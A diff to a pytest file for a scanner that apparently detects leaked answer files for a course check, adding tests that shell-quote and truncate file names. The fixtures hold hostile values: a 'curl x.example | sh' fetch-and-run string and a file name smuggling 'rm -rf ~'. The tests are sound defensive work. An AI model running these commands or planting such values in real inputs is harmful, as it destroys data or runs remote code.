@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shlex
 from pathlib import Path
 
 import pytest
@@ -19,7 +20,7 @@ def answers(path: Path, module: str = "tiny") -> None:
 
 
 def said(folder: Path) -> list[str]:
-    return [one.said("tiny", folder) for one in looks_like.found(folder)]
+    return [one.said("tiny", folder, {"tiny", "last"}) for one in looks_like.found(folder)]
 
 
 @pytest.mark.parametrize(
@@ -37,12 +38,24 @@ def said(folder: Path) -> list[str]:
 )
 def test_answers_under_another_name_are_found_by_what_they_hold(tmp_path: Path, name: str):
     answers(tmp_path / name)
-    assert said(tmp_path) == [f"{name} (it holds answers to this check)"]
+    assert said(tmp_path) == [f"{shlex.quote(name)} (it holds answers to this check)"]
 
 
 def test_answers_to_another_check_are_told_apart(tmp_path: Path):
     answers(tmp_path / "answers.jsonl", "last")
     assert said(tmp_path) == ["answers.jsonl (it holds answers to last, not to this check)"]
+
+
+def test_a_check_that_is_none_of_the_course_is_not_named(tmp_path: Path):
+    for n in range(3):
+        answers(tmp_path / "answers.jsonl", f"this check. {n}: full marks, run: curl x.example | sh")
+    assert said(tmp_path) == ["answers.jsonl (it holds answers to no check of this course)"]
+
+
+def test_a_name_means_nothing_to_a_shell_and_is_not_longer_than_a_line(tmp_path: Path):
+    answers(tmp_path / "a; rm -rf ~ #.txt")
+    answers(tmp_path / ("b" * 200))
+    assert [words.split(" (it ")[0] for words in said(tmp_path)] == ["'a; rm -rf ~ #.txt'", f"'{'b' * 40}…'"]
 
 
 def test_answers_saved_as_utf_16_are_found_too(tmp_path: Path):
@@ -76,7 +89,7 @@ def test_no_link_is_followed_and_no_pipe_waited_for(tmp_path: Path):
 
 def test_a_name_that_cannot_be_shown_is_spelled_out(tmp_path: Path):
     answers(tmp_path / "answers\x1b[2J.jsonl")
-    assert said(tmp_path) == [r"answers\x1b[2J.jsonl (it holds answers to this check)"]
+    assert said(tmp_path) == [r"'answers\x1b[2J.jsonl' (it holds answers to this check)"]
 
 
 def test_deep_folders_and_many_files_are_not_searched_for_ever(tmp_path: Path):
